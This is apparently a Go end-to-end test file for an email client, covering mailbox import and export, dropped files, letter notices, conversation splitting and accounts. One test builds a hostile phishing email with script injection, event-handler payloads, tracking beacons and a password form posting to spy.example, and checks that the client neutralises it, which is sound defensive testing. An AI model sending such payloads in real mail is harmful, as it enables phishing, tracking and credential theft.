package e2e

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/go-rod/rod/lib/input"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"ebbe.example/ebbe/e2e/browser"
)

func write(t *testing.T, name, text string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), name)
	require.NoError(t, os.WriteFile(path, []byte(text), 0o600))
	return path
}

// importFile imports a file by the page: chosen, its place taken as proposed.
func importFile(p browser.Page, path, says string) {
	p.Press('v', 'o')
	p.MustElement("main[aria-label='Letters in and out']")
	p.MustElement("input[type=file]").MustSetFiles(path)
	p.See("Where do the letters go?")
	p.Press(input.Enter) // the first choice has the focus
	p.See(says)
}

// Letters come in from a file, the damaged one can be opened, all of it is
// undone as one; and what is there goes out again byte for byte.
func TestLettersComeInAndGoOutAsFiles(t *testing.T) {
	e := serve(t)
	p := e.open(browser.Desk, false)
	path := write(t, "old.mbox", "From a\nFrom: Eva <eva@old.example>\nSubject: An old plan\nDate: Mon, 2 Mar 2026 08:00:00 +0100\n\n>From the attic.\n\nFrom b\nno header at all, and yet kept\n")
	importFile(p, path, "2 read, 2 new, 0 known already")
	p.Click("1 damaged")
	p.See("no letter header was found")
	p.MustElement("ul[aria-label=Imports] a").MustClick()
	p.See("no header at all, and yet kept")
	p.Press('v', 'o')
	mbox := p.MustEval(`async () => (await (await fetch('/api/export?format=mbox&search=attic')).text())`).Str()
	assert.True(t, strings.HasPrefix(mbox, "From eva@old.example Mon Mar  2 07:00:00 2026\nFrom: Eva"), mbox)
	assert.Contains(t, mbox, "\n>From the attic.\n")
	zipped := p.MustEval(`async () => { const r = await fetch('/api/archive'); return [r.headers.get('content-disposition'), (await r.arrayBuffer()).byteLength] }`).Arr()
	assert.Contains(t, zipped[0].Str(), "Ebbe archive 2026-11-24.zip")
	assert.Greater(t, zipped[1].Int(), 500_000)

	importFile(p, path, "2 read, 0 new, 2 known already")
	p.Click("Undo the import")
	p.See("undone")
	p.MustNavigate(e.url + "/search?q=attic").MustWaitLoad()
	p.See("bin")
}

// Files dropped anywhere are asked about, and nothing is taken in before.
func TestFilesAreDropped(t *testing.T) {
	e := serve(t)
	p := e.open(browser.Phone, true)
	p.MustElement("[role=option]")
	p.MustEval(`() => {
		const data = new DataTransfer()
		data.items.add(new File(['From: eva@old.example\nSubject: Dropped\n\nHello\n'], 'a.eml'))
		document.querySelector('main').dispatchEvent(new DragEvent('drop', { bubbles: true, cancelable: true, dataTransfer: data }))
	}`)
	p.See("Where do the letters go?")
	p.See("a.eml")
	p.MustElementR("label", "To the inbox those newer than").MustClick()
	p.MustElement("input[aria-label=Days]").MustSelectAllText().MustInput("3")
	p.Click("Import, the last 3 days to the inbox")
	p.See("1 read, 1 new")
}

// A letter made to run, to leak and to imitate does nothing of it.
func TestAHostileLetterDoesNothing(t *testing.T) {
	e := serve(t)
	p := e.open(browser.Desk, false)
	hostile := `From: Bank <help@bank.example>
Subject: Sign in again
Date: Mon, 23 Nov 2026 08:00:00 +0100
Content-Type: text/html

<p>Dear customer, see <a href="https://evil.example/x">www.bank.example</a></p>
<script>top.hacked = 1</script><img src=x onerror="top.hacked = 1"><svg onload="top.hacked = 1"></svg>
<style>body { background: url(https://spy.example/css) }</style><img src="https://spy.example/dot.gif" width=1>
<div style="position:fixed;inset:0;background:#fff;z-index:99999">Ebbe: your session has ended</div>
<form action="https://spy.example/"><input name=password><button>Sign in</button></form>
<meta http-equiv=refresh content="0;url=https://spy.example/"><iframe src="https://spy.example/"></iframe>`
	importFile(p, write(t, "hostile.eml", hostile), "1 read, 1 new")
	p.MustNavigate(e.url + "/search?q=customer").MustWaitLoad()
	p.See("never loaded")
	p.See("the true one stands behind it")
	page := p.Letter()
	page.MustElementR("p", "leads to evil.example")
	got := page.MustEval(`() => [document.querySelectorAll('script, form, input, iframe, meta[http-equiv], svg, style').length,
		[...document.querySelectorAll('*')].filter((n) => getComputedStyle(n).position !== 'static').length, performance.getEntriesByType('resource').filter((r) => !r.name.startsWith(document.location.origin + '/assets/newsreader')).length, document.location.origin]`).Arr()
	assert.Equal(t, 1, got[0].Int(), "only our own style")
	assert.Equal(t, 0, got[1].Int(), "nothing lies over anything")
	assert.Equal(t, 0, got[2].Int(), "nothing was fetched but our own font")
	assert.Equal(t, e.url, got[3].Str(), "it did not go elsewhere")
	assert.True(t, p.MustEval(`() => window.hacked === undefined`).Bool())
}

// What must be said of a letter stands above it, and each choice can be taken
// and taken back.
func TestNotesOnALetter(t *testing.T) {
	e := serve(t)
	p := e.open(browser.Desk, false)
	find := func(words string) {
		p.MustNavigate(e.url + "/search?q=" + words).MustWaitLoad()
		p.Timeout(browser.Wait).MustElement("section[aria-label=Letter] article")
	}
	find("worksheet")
	p.See("could not be delivered to lars@nordby-skole.example")
	p.Click("Send again")
	p.MustElement("form[aria-label='Send again']")
	p.Until(`() => document.querySelector('textarea').value.includes('Shall I send the worksheet to you?')`)
	p.Press(input.Escape)

	find("from:director+minutes")
	p.See("asks to be told that you read this")
	p.Click("Tell them")
	p.See("You told Director’s office")
	p.Press('u')
	p.See("asks to be told that you read this")
	p.Click("Don’t")
	p.SeeNot("asks to be told that you read this")

	find("truth+peat")
	p.See("1 remote picture not loaded")
	p.Click("Always from The Glasshouse Letter")
	p.See("Pictures from The Glasshouse Letter are loaded")
	p.Until(`() => document.querySelector('iframe').src.includes('images=1')`)
	p.Click("No longer")
	p.See("1 remote picture not loaded")

	find("labels+printer+below")
	p.Press('o')
	p.MustElement("section[aria-label^='Attached letter: Estimate']")
	find("alpine")
	p.Press('o')
	p.See("Signed with OpenPGP")
}

// A conversation is split, and that is undone.
func TestSplit(t *testing.T) {
	e := serve(t)
	p := e.open(browser.Desk, false)
	p.MustNavigate(e.url + "/search?q=otters").MustWaitLoad()
	p.Timeout(browser.Wait).MustElement("section[aria-label=Letter] article")
	before := p.MustEval(`() => document.querySelectorAll('[role=option]').length`).Int()
	p.MustElement("button[aria-label='Split here: start a new conversation from this letter']").MustClick()
	p.See("New conversation from")
	p.Until(`(n) => document.querySelectorAll('[role=option]').length === n`, before+1)
	p.Press('u')
	p.Until(`(n) => document.querySelectorAll('[role=option]').length === n`, before)
}

// Accounts are named, signed and told apart; one is added, and laid aside.
func TestAccounts(t *testing.T) {
	e := serve(t)
	p := e.open(browser.Desk, false)
	p.Press('v', 'c')
	p.MustElement("main[aria-label=Accounts]")
	label := p.MustElement("section[aria-label='walks@norrholm.example'] label:nth-of-type(2) input")
	label.MustSelectAllText().MustInput("Strolls").MustType(input.Enter)
	p.MustElement("section[aria-label='walks@norrholm.example'] button[aria-label='amber drop']").MustClick()
	p.MustElement("section[aria-label='walks@norrholm.example'] button[aria-label='amber drop'][aria-pressed=true]")
	p.Click("Add an address")
	p.MustElement("input[type=email]").MustInput("ines@choir.example").MustType(input.Enter)
	p.MustElement("section[aria-label='ines@choir.example']")
	p.Press('v', 'i')
	p.MustElement("svg[aria-label='account Strolls']")
	p.MustElementR("main button", `Account:\s*All accounts`).MustClick()
	p.MustElementR("[role=menuitemradio]", "ines@choir.example")
	p.Press(input.Escape)
	p.Press('v', 'c')
	p.MustElement("section[aria-label='ines@choir.example']")
	p.MustElementR("section[aria-label='ines@choir.example'] button", "Lay this account aside").MustClick()
	p.Until(`() => document.querySelector("section[aria-label='ines@choir.example']") === null`)
	p.Click("^Undo$")
	p.MustElement("section[aria-label='ines@choir.example']")
}
